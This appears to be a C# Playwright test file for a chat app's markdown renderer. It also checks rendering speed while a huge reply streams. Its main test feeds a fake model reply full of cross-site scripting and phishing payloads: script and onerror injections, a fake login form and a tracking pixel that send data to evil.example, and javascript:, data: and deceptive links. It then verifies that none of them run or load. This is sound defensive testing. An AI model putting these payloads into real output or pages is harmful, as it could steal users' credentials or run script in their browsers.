using Cote.BlackBox.Harness;
using Microsoft.Playwright;

namespace Cote.BlackBox.Page;

/// <summary>A model whose texts attack who reads them.</summary>
[Trait("Stage", "slow")]
[Collection(nameof(Alone))]
public sealed class HostileTextTests(PublishedProgram program, Chromium chromium) : IClassFixture<Chromium>
{
    const string Attack = """
        <script>document.title = 'ran'</script><img src=x onerror="document.title='ran'">
        <iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/"><input name="Password">
        <button>Log in again</button></form><style>body{display:none}</style>
        <div style="position:fixed;inset:0">Fake</div>

        ![tracked](https://evil.example/pixel.png?secret) ![here](/media/1) [run](javascript:document.title='ran')
        [data](data:text/html,<script>alert(1)</script>) [v](vbscript:x) [bank](https://bank.example@evil.example/)
        [ref] <javascript:alert(1)> [a](<javascript:alert(1)> "t") [good](https://good.example/x)

        [ref]: javascript:document.title='ran'

        $\href{javascript:alert(1)}{x}$ $\class{send-button}{x}$ $$\rule{9999em}{9999em}$$ $\style{position:fixed}{x}$

        ```html
        <script>document.title = 'ran'</script>
        ```
        """;

    [Fact]
    public async Task Nothing_of_a_hostile_text_runs_loads_or_looks_like_the_page()
    {
        await using var model = await FakeModelServer.Start();
        await using var node = await Node.With(program, model).StartAsync();
        model.Script = FakeReply.Text(Attack);
        await using var ada = await (await chromium.VisitAsync(node.Url)).RegisterAsync("ada");
        await ada.SayAsync("Attack");
        await ada.EndedAsync(1);
        var text = ada.Replies.Locator(".md");
        await Visitor.SaysAsync(text, "<script>document.title = 'ran'</script>");
        await text.Locator("pre").ScrollIntoViewIfNeededAsync();
        await text.Locator(".md-set").First.WaitForAsync(); // what is loaded late has been loaded

        (await text.Locator("script, img, iframe, form, button:not(.md-copy), style, object, embed, svg, [id], [name]")
            .CountAsync()).ShouldBe(0);
        (await text.Locator("input:not([type=checkbox][disabled])").CountAsync()).ShouldBe(0);
        var links = await text.Locator("a").EvaluateAllAsync<string[]>(
            "all => all.map(x => x.href + ' ' + x.rel + ' ' + x.target)");
        links.ShouldContain("https://evil.example/pixel.png?secret noopener noreferrer nofollow _blank");
        links.ShouldContain("https://good.example/x noopener noreferrer nofollow _blank");
        links.ShouldAllBe(x => x.StartsWith("https://") && x.EndsWith(" noopener noreferrer nofollow _blank"));
        (await ada.Page.TitleAsync()).ShouldNotBe("ran");
        ada.Complaints.ShouldBeEmpty();
        ada.Asked.Where(x => new Uri(x) is { Scheme: "http" or "https" } to && to.Authority != node.Url.Authority)
            .ShouldBeEmpty();
        await Assertions.Expect(ada.Message).ToBeVisibleAsync();
    }

    [Theory]
    [InlineData("letters")]
    [InlineData("markdown")]
    public async Task Frames_go_on_while_a_huge_text_streams(string kind)
    {
        await using var model = await FakeModelServer.Start();
        await using var node = await Node.With(program, model, "Assistants:MaxReplyLength=6000000").StartAsync();
        var pieces = kind == "letters" ? Enumerable.Repeat(new string('a', 1_000), 100) : Markdown();
        model.Script = FakeReply.Paced(TimeSpan.FromMilliseconds(20), pieces).Then("\n\nThe last line.");
        // Half of what this machine shows of an idle page: 30 of 60 where nothing else runs. What else runs comes and
        // goes: a page that is too slow by itself is so each time.
        var idle = 0.0;
        for (var tries = 1; ; tries++)
        {
            await using var ada = await (await chromium.VisitAsync(node.Url)).RegisterAsync($"ada{tries}");
            idle = Math.Max(idle, await ada.Page.EvaluateAsync<double>(Frames, 2_000));
            await ada.SayAsync("Huge");
            await ada.Replies.WaitForAsync();
            var busy = await ada.Page.EvaluateAsync<double>(Frames, kind == "letters" ? 2_000 : 8_000);
            if (kind == "letters")
                await Visitor.SaysAsync(ada.Replies.Locator(".md"), "The last line.");
            TestContext.Current.TestOutputHelper?.WriteLine(
                $"{kind}: {busy:0} frames a second, {idle:0} of an idle page");
            ada.Complaints.ShouldBeEmpty();
            if (busy >= idle / 2)
                return;
            tries.ShouldBeLessThan(10, $"{busy:0} frames a second, {idle:0} of an idle page");
        }
    }

    const string Frames = """
        length => new Promise(done => {
          const began = performance.now()
          let count = 0
          requestAnimationFrame(function next(now) {
            count++
            if (now - began < length) requestAnimationFrame(next)
            else done(count * 1000 / (now - began))
          })
        })
        """;

    static IEnumerable<string> Markdown()
    {
        const string block = """
            ## A heading of many

            A paragraph with **bold**, `code`, a [link](https://example.com/) and $x^2$ that goes on for a line or two.

            - one item
            - another one
              - below it

            | a | b |
            |---|---|
            | 1 | 2 |

            ```js
            const answer = 42 // and a comment
            ```


            """;
        var chunk = string.Concat(Enumerable.Repeat(block, 50));
        return Enumerable.Repeat(chunk, 5_000_000 / chunk.Length);
    }
}
